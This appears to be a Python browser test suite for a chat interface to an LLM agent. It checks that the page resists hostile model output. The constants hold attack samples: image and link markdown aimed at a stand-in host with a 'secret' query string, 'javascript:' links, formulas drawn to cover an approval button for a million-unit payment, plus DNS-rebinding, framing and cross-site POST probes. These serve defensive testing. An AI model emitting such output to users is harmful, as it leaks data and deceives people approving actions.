"""The page resists pages of other sites, names that resolve to this machine, and a model's words."""

from collections.abc import Iterator
from typing import Final

import pytest
from google.adk.agents import LlmAgent
from google.adk.tools.function_tool import FunctionTool
from google.genai.types import Content, FileData, Part
from playwright.sync_api import Browser, expect

from stream_protocol.server import bind_socket, only_allowed_hosts
from stream_protocol.server._uvicorn_server import server_address
from stream_protocol.serving import create_app
from stream_protocol.testing import Call, ScriptedLlm
from tests.chromium import launched, opened_tab
from tests.demo_page import answers
from tests.served import serving

pytestmark = [pytest.mark.browser, pytest.mark.pages]

WORDS: Final = """
![chart](http://elsewhere.test/1.png?q=secret) ![](//elsewhere.test/2.png) [![in](https://elsewhere.test/3.png)](/)
![svg](data:image/svg+xml,<svg/>) <img src="http://elsewhere.test/4.png">
<style>@import "//elsewhere.test/5.css"</style>
[run](javascript:alert(1)) [page](data:text/html,hi) ![own](/6.png) [link](http://secret.elsewhere.test/7)
"""
OVERDRAWN: Final = r"""
$$\rlap{\smash{\raisebox{-14em}{\colorbox{white}{\rule{0em}{9em}\text{amount: 1 cent, to a charity}\hspace{30em}}}}}$$
in a line $$\rlap{\smash{\raisebox{-8em}{\rule{40em}{9em}}}}$$
"""
"""Formulas that draw over the text below them."""
COVERED: Final = """element => {
  const { x, y, width, height } = element.getBoundingClientRect();
  return !element.contains(document.elementFromPoint(x + width / 2, y + height / 2));
}"""
HREFS: Final = "links => links.map(link => [link.getAttribute('href'), link.rel, link.target])"
STOP: Final = "async (url) => { await fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include' }) }"


def picture(callback_context: object) -> Content:
    """A file that a tool or a model may return."""
    return Content(parts=[Part(file_data=FileData(file_uri="http://elsewhere.test/8.png", mime_type="image/png"))])


def pay(amount: int) -> dict[str, int]:
    """Pays."""
    return {"paid": amount}


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """One that finds the hosts of these tests on this machine."""
    with launched("--host-resolver-rules=MAP *.test 127.0.0.1") as chromium:
        yield chromium


@pytest.fixture(scope="module")
def url() -> Iterator[str]:
    agent = LlmAgent(name="root", model=ScriptedLlm(respond=lambda _: [WORDS]), after_agent_callback=picture)
    with bind_socket("127.0.0.1", 0) as listener, serving(only_allowed_hosts(create_app(agent), listener), listener):
        yield server_address(listener)


def test_nothing_that_a_model_names_is_fetched_before_it_is_clicked(browser: Browser, url: str) -> None:
    with opened_tab(browser) as page:
        fetched: list[str] = []
        page.on("request", lambda request: fetched.append(request.url))
        page.goto(url)
        page.get_by_label("Message").fill("hi")
        page.get_by_label("Message").press("Enter")
        expect(page.get_by_role("button", name="Regenerate")).to_be_visible()
        expect(page.get_by_role("link", name="Show image from elsewhere.test")).to_have_count(2)
        expect(page.get_by_role("link", name="in", exact=True)).to_be_visible()  # not one link in another
        page.wait_for_function("() => [...document.querySelectorAll('article img')].every((image) => image.complete)")
        links = answers(page).get_by_role("link").evaluate_all(HREFS)
    assert {request for request in fetched if not request.startswith((f"{url}/", "data:"))} == set()
    assert f"{url}/6.png" in fetched
    assert {rel for _, rel, _ in links} == {"noopener noreferrer"}
    assert {target for *_, target in links} == {"_blank"}
    assert not [href for href, *_ in links if href.startswith(("javascript:", "data:"))]


def test_no_formula_of_a_model_covers_what_somebody_is_to_approve(browser: Browser) -> None:
    model = ScriptedLlm(turns=[[OVERDRAWN, Call("pay", {"amount": 1_000_000})]])
    agent = LlmAgent(name="root", model=model, tools=[FunctionTool(pay, require_confirmation=True)])
    with bind_socket("127.0.0.1", 0) as listener, serving(create_app(agent), listener), opened_tab(browser) as page:
        page.goto(server_address(listener))
        page.get_by_label("Message").fill("hi")
        page.get_by_label("Message").press("Enter")
        approve = page.get_by_role("button", name="Approve")
        expect(approve).to_be_visible()
        expect(answers(page).locator(".katex")).not_to_have_count(0)
        amounts = page.get_by_text("1000000")
        expect(amounts).to_have_count(2)  # in the headline and in the list of arguments
        for shown in (approve, page.get_by_role("button", name="Deny…"), *amounts.all()):
            assert not shown.evaluate(COVERED)


def test_another_page_neither_shows_nor_stops_nor_reads_the_chats(browser: Browser, url: str) -> None:
    with opened_tab(browser) as page:
        page.goto(url.replace("127.0.0.1", "rebound.test"))
        assert "start it with --allowed-host rebound.test" in page.inner_text("body")
    page = browser.new_page()  # its console says that framing is refused
    page.set_content(f"<iframe src='{url}'></iframe>")
    expect(page.frame_locator("iframe").locator("#root")).to_have_count(0)
    with page.expect_response(f"{url}/api/chat/c1/stop") as stopped:
        page.evaluate(STOP, f"{url}/api/chat/c1/stop")
    assert stopped.value.status == 403
    assert page.frames[1].url.startswith("chrome-error:")
    page.close()
